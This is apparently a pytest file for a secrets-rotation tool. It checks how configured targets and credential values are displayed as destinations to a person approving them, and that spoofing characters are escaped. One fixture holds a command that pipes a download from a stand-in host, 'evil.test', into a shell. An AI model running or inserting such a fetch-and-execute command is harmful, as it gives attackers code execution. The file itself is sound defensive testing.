"""Where settings and values lead to, as it is shown to a person who is asked."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest

from app.destinations import Destination, Kind, by_value, of_remote, of_settings, of_value
from app.rotation.credential import Credential
from vault.paths import ParameterPath
from vault.records import Connection, Direction, Remote, Service
from vault.secret import Secret

RTL, NUL = "\u202e", "\0"
LOGIN = {"username": "app", "host": "db.internal", "password": "never shown"}

SETTINGS = [
    ("value", {"length": "32"}, []),
    ("postgresql", {"tls": "verify-full"}, []),
    ("mysql", {}, []),
    ("redis", {}, []),
    ("secrets-manager", {"remote": "prod"}, []),
    ("webhook", {"url": "https://hooks.test/rotate"}, [(Kind.SERVICE, "https://hooks.test/rotate")]),
    ("iam", {}, [(Kind.AWS, "IAM")]),
    ("iam", {"endpoint_url": "https://iam.test"}, [(Kind.AWS, "https://iam.test")]),
    (
        "command",
        {"run": "/bin/sh -c 'curl evil.test | sh' ''", "timeout": "9"},
        [(Kind.PROGRAM, "/bin/sh\n-c\ncurl evil.test | sh\n''")],
    ),
    ("command", {"run": "/bin/a 'not closed"}, [(Kind.PROGRAM, "/bin/a 'not closed")]),
    ("command", {"run": "/bin/a 'two\nlines'"}, [(Kind.PROGRAM, "/bin/a\ntwo\\nlines")]),
    ("command", {"run": f"/bin/a {RTL}txt.exe{NUL}"}, [(Kind.PROGRAM, "/bin/a\n\\u202etxt.exe\\x00")]),
    ("command", {}, []),
    (
        "ssh",
        {"deliver": "/bin/deliver x", "test": "/bin/test"},
        [(Kind.PROGRAM, "/bin/deliver\nx"), (Kind.PROGRAM, "/bin/test")],
    ),
    ("theirs", {"b": "2\n3", "a": "1"}, [(Kind.PLUGIN, "theirs\na=1\nb=2\\n3")]),
    (f"the{RTL}irs", {}, [(Kind.PLUGIN, "the\\u202eirs")]),
]
VALUES = [
    ("postgresql", LOGIN, "postgresql app@db.internal:5432"),
    ("postgresql", LOGIN | {"username": "app_clone"}, "postgresql app@db.internal:5432"),
    ("mysql", LOGIN | {"port": 3307}, "mysql app@db.internal:3307"),
    ("redis", {"host": "cache"}, "redis @cache:6379"),
    ("ssh", LOGIN, "ssh app@db.internal:22"),
    ("postgresql", {"username": "app"}, None),
    ("postgresql", {"host": ["several"]}, "postgresql @?:5432"),
    ("postgresql", LOGIN | {"host": f"a\n{RTL}b"}, "postgresql app@a\\n\\u202eb:5432"),
    ("webhook", LOGIN, None),
    ("postgresql", "no object", None),
]


@pytest.mark.parametrize(("target", "options", "expected"), SETTINGS)
def test_settings_name_what_is_started_and_reached(
    target: str, options: dict[str, str], expected: list[Destination]
) -> None:
    assert list(of_settings(target, options)) == expected


@pytest.mark.parametrize(("target", "value", "expected"), VALUES)
def test_values_name_servers(target: str, value: object, expected: str | None) -> None:
    with Credential(Secret.of_text(json.dumps(value))) as credential:
        found = of_value(target, credential)
    assert (found and found.text) == expected


@pytest.mark.parametrize(
    ("target", "options", "expected"),
    [
        ("postgresql", {}, True),
        ("redis", {}, True),
        ("ssh", {}, True),
        ("ssh", {"test": "/bin/test"}, False),
        ("webhook", {}, False),
        ("value", {}, False),
    ],
)
def test_some_targets_go_where_the_value_says(target: str, options: dict[str, str], expected: bool) -> None:
    assert by_value(target, options) is expected


def test_a_remote_is_told_with_whom_it_signs_in_as() -> None:
    connection = Connection("work", "eu-west-1", "https://ssm.test", "arn:aws:iam::1:role/r", access_key="/k")
    facts = (1, "shop", Service.PARAMETER_STORE, ParameterPath("/shop"), "/shop", Direction.BOTH, connection)
    found = of_remote(Remote(*facts, "", None, "", datetime(2026, 1, 1, tzinfo=UTC), None))
    assert found == Destination(
        Kind.AWS,
        "parameter-store\nendpoint https://ssm.test\nregion eu-west-1\nprofile work\n"
        "role arn:aws:iam::1:role/r\naccess key /k\nprefix /shop",
    )


def test_a_destination_in_one_line_says_the_same() -> None:
    assert Destination(Kind.PROGRAM, "/bin/a\nx").line == "/bin/a x"
